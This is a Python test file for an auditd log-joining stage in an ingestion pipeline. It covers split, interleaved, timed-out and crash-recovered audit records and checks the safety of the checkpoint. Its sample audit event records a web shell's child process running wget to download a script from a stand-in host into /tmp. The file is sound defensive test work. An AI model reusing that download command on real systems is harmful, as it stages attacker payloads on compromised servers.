"""The auditd joining step between real sources and a real transport, indexer and SQLite
store: records split across reads, interleaved, timed out, flushed at stop, re-read after a
crash; and the checkpoint never passes a record that is still held."""

from __future__ import annotations

import json
import socket
from collections.abc import Callable
from pathlib import Path
from typing import Any

from canhgac.config import FileSourceConfig, SyslogTcpSourceConfig
from canhgac.models import Event
from ingest.parse.base import Origin
from ingest.parse.record import to_record
from ingest.sources.audit_joining import AuditJoiningSender
from ingest.sources.checkpoint import checkpoint_path
from ingest.sources.registry import build
from ingest.transport.base import Batch, Sender

Pipeline = Any  # the conftest harness: store, transport, indexer
Wait = Callable[..., None]

# A web shell's child, as auditd writes it (x86_64, log_format=RAW); a1..a3 are hex because
# they hold spaces or Vietnamese ("tải về" = download).
EXECVE_EVENT = [
    "type=SYSCALL msg=audit(1795748431.020:9131): arch=c000003e syscall=59 success=yes exit=0"
    " a0=55f0 a1=55f1 a2=55f2 a3=0 items=2 ppid=8841 pid=8862 auid=4294967295 uid=33 gid=33"
    " euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295"
    ' comm="wget" exe="/usr/bin/wget" subj=unconfined key="exec"',
    'type=EXECVE msg=audit(1795748431.020:9131): argc=4 a0="wget" a1="-O"'
    ' a2=2F746D702F74E1BAA3692076E1BB81 a3="http://203.0.113.50/x"',
    'type=CWD msg=audit(1795748431.020:9131): cwd="/var/www/html"',
    'type=PATH msg=audit(1795748431.020:9131): item=0 name="/usr/bin/wget" inode=2201'
    " dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
    "type=PROCTITLE msg=audit(1795748431.020:9131): proctitle=77676574002D4F002F746D702F742E7368",
    "type=EOE msg=audit(1795748431.020:9131): ",
]


def _file_source(tmp_path: Path, pipeline: Pipeline, timeout: str = "60s") -> Any:
    config = FileSourceConfig(
        name="audit",
        path=str(tmp_path / "audit.log"),
        poll_interval="10ms",
        parser="auditd",
        auditd_join_timeout=timeout,
    )
    return build(config, pipeline.transport, tmp_path / "state")


def _append(path: Path, lines: list[str]) -> None:
    with path.open("ab") as handle:
        handle.write("".join(f"{line}\n" for line in lines).encode())


def _saved_offset(tmp_path: Path) -> int:
    path = checkpoint_path(tmp_path / "state", "audit")
    if not path.exists():
        return 0
    files = json.loads(path.read_text())["files"]
    return int(files[0]["offset"]) if files else 0


def test_an_event_split_across_polls_is_stored_once_whole(
    tmp_path: Path, pipeline: Pipeline
) -> None:
    log = tmp_path / "audit.log"
    _append(log, EXECVE_EVENT[:2])
    source = _file_source(tmp_path, pipeline)
    source.poll()
    pipeline.index()
    assert pipeline.store.count_events() == 0  # held, waiting for the rest
    assert _saved_offset(tmp_path) == 0  # and the checkpoint did not pass it
    _append(log, EXECVE_EVENT[2:])
    source.poll()
    pipeline.index()
    [event] = pipeline.events()
    assert event.fields["process.executable"] == "/usr/bin/wget"
    assert event.fields["process.command_line"] == "wget -O /tmp/tải về http://203.0.113.50/x"
    assert event.fields["process.working_directory"] == "/var/www/html"
    assert "hanoi.auditd.partial" not in event.fields
    assert _saved_offset(tmp_path) == log.stat().st_size
    source.stop()


def test_a_crash_with_records_held_loses_nothing_and_doubles_nothing(
    tmp_path: Path, pipeline: Pipeline
) -> None:
    log = tmp_path / "audit.log"
    _append(log, ["type=DAEMON_START msg=audit(1795748400.000:9000): op=start ver=3.1.2"])
    crashed = _file_source(tmp_path, pipeline)
    crashed.poll()
    pipeline.index()
    after_start = _saved_offset(tmp_path)
    _append(log, EXECVE_EVENT[:3])
    crashed.poll()
    pipeline.index()
    # The process dies here: crashed is never stopped; its held records were never acked.
    assert pipeline.store.count_events() == 1  # DAEMON_START is not held
    assert _saved_offset(tmp_path) == after_start > 0  # not past the held records
    _append(log, EXECVE_EVENT[3:])
    restarted = _file_source(tmp_path, pipeline)
    restarted.poll()
    pipeline.index()
    restarted.stop()
    events = pipeline.events()
    assert sorted(e.fields["event.action"] for e in events) == ["daemon_start", "execve"]
    joined = next(e for e in events if e.fields["event.action"] == "execve")
    kinds = joined.fields["hanoi.auditd.record_types"]
    assert kinds == "SYSCALL EXECVE CWD PATH PROCTITLE"
    assert pipeline.indexer.stats().duplicates == 0


def test_stop_flushes_held_records_as_a_partial_event(
    tmp_path: Path, pipeline: Pipeline, wait_until: Wait
) -> None:
    pipeline.start_indexer()
    log = tmp_path / "audit.log"
    _append(log, EXECVE_EVENT[:2])
    source = _file_source(tmp_path, pipeline)
    source.poll()
    source.stop()
    wait_until(lambda: pipeline.store.count_events() == 1)
    [event] = pipeline.events()
    assert event.fields["hanoi.auditd.partial"] is True
    assert event.fields["process.executable"] == "/usr/bin/wget"
    assert _saved_offset(tmp_path) == log.stat().st_size


def test_the_timeout_stores_an_event_whose_end_never_came(
    tmp_path: Path, pipeline: Pipeline, wait_until: Wait
) -> None:
    pipeline.start_indexer()
    log = tmp_path / "audit.log"
    _append(log, EXECVE_EVENT[:4])
    source = _file_source(tmp_path, pipeline, timeout="200ms")
    source.start()
    try:
        wait_until(lambda: pipeline.store.count_events() == 1)
        [event] = pipeline.events()
        assert event.fields["hanoi.auditd.partial"] is True
        wait_until(lambda: _saved_offset(tmp_path) == log.stat().st_size)
    finally:
        source.stop()


def test_syslog_tcp_split_and_interleaved_hosts(pipeline: Pipeline, wait_until: Wait) -> None:
    pipeline.start_indexer()
    config = SyslogTcpSourceConfig(name="audisp", port=0, parser="auto")
    source = build(config, pipeline.transport, "/nonexistent")
    source.start()
    try:
        # audisp-syslog through rsyslog, two servers' events with the same serial interleaved,
        # and the stream cut mid-line.
        frames = [
            f"<182>Dec  3 07:40:31 {host} audisp-syslog: {line}\n"
            for pair in zip(EXECVE_EVENT, EXECVE_EVENT, strict=True)
            for host, line in zip(("web01", "web02"), pair, strict=True)
        ]
        wire = "".join(frames).encode()
        with socket.create_connection(source.address) as client:  # type: ignore[attr-defined]
            for start in range(0, len(wire), 97):
                client.sendall(wire[start : start + 97])
        wait_until(lambda: pipeline.store.count_events() == 2)
    finally:
        source.stop()
    events = pipeline.events()
    assert sorted(e.fields["host.name"] for e in events) == ["web01", "web02"]
    for event in events:
        assert event.fields["process.executable"] == "/usr/bin/wget"
        assert event.fields["process.args_count"] == 4
        assert "hanoi.auditd.partial" not in event.fields


class _Held(Sender):
    """The next stage: keeps each batch until the test acknowledges it."""

    def __init__(self) -> None:
        self.batches: list[Batch] = []

    def send(self, batch: Batch) -> None:
        self.batches.append(batch)

    def close(self) -> None:
        pass


def _records(lines: list[str], start: int) -> list[Event]:
    origin = Origin(source="audit", identity="file:1", received_at="2026-12-03T00:00:00Z")
    records = [to_record(line.encode(), origin, start + i) for i, line in enumerate(lines)]
    return [r for r in records if isinstance(r, Event)]


def test_acknowledgements_wait_for_held_records_and_keep_their_order() -> None:
    inner = _Held()
    joining = AuditJoiningSender(inner, timeout=60)
    acked: list[str] = []
    first = _records(["plain text, not audit", *EXECVE_EVENT[:2]], 0)
    joining.send(Batch(first, [], lambda: acked.append("first")))
    second = _records(["another plain line"], 10)
    joining.send(Batch(second, [], lambda: acked.append("second")))
    for batch in list(inner.batches):
        batch.ack()
    assert acked == []  # first still has held records; second must not overtake it
    third = _records(EXECVE_EVENT[2:], 3)
    joining.send(Batch(third, [], lambda: acked.append("third")))
    [*_, last] = inner.batches
    assert [e.fields.get("hanoi.auditd.record_types") for e in last.events] == [
        "SYSCALL EXECVE CWD PATH PROCTITLE"
    ]
    last.ack()
    assert acked == ["first", "second", "third"]
    joining.close()
